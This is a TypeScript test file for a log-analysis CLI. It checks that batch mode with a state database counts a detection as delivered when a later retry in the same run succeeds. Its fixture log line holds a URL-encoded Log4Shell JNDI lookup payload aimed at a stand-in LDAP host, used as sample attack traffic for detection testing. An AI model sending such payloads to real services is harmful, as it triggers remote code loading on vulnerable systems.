import { spawn } from 'node:child_process';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import { setTimeout as sleep } from 'node:timers/promises';
import { afterEach, expect, it } from 'vitest';
import { logLine, NOON } from '../support/logs.ts';
import { ROOT } from '../support/run-cli.ts';
import { openTenant, type Tenant } from './support.ts';

const ATTACK = logLine({ client: '203.0.113.9', request: 'GET /?q=%24%7Bjndi:ldap://203.0.113.99/a%7D HTTP/1.1' });
const LATER = NOON + 7_200_000;

let tenant: Tenant;
afterEach(() => tenant.sandbox.close());

it('does not call undelivered what batch --state delivers at a later try of the same run', async () => {
  tenant = await openTenant({ faults: ['forbidden,path=/iroh/private-intel'] });
  const { sandbox, folder } = tenant;
  const child = spawn(process.execPath, [join(ROOT, 'dist', 'cli.js'), 'batch', '-', '--state', 'state.db'], {
    cwd: folder,
    env: { PATH: process.env.PATH, ...sandbox.environment },
  });
  const stderr = text(child.stderr);
  const closed = new Promise<number | null>((resolve) => child.once('close', resolve));
  child.stdin.write(`${ATTACK}\n`);
  for (let step = 0; sandbox.entities('incident').length === 0 && child.exitCode === null; step++) {
    // As much as is read at a time.
    child.stdin.write(`${logLine({ time: LATER + step * 1000 })}\n`.repeat(500));
    await sleep(50);
  }
  child.stdin.end();
  expect([await closed, await stderr]).toEqual([0, expect.not.stringContaining('Not delivered')]);
  expect(sandbox.requests().filter(({ path }) => path.includes('/bundle/import')).length).toBeGreaterThan(1);
}, 60_000);
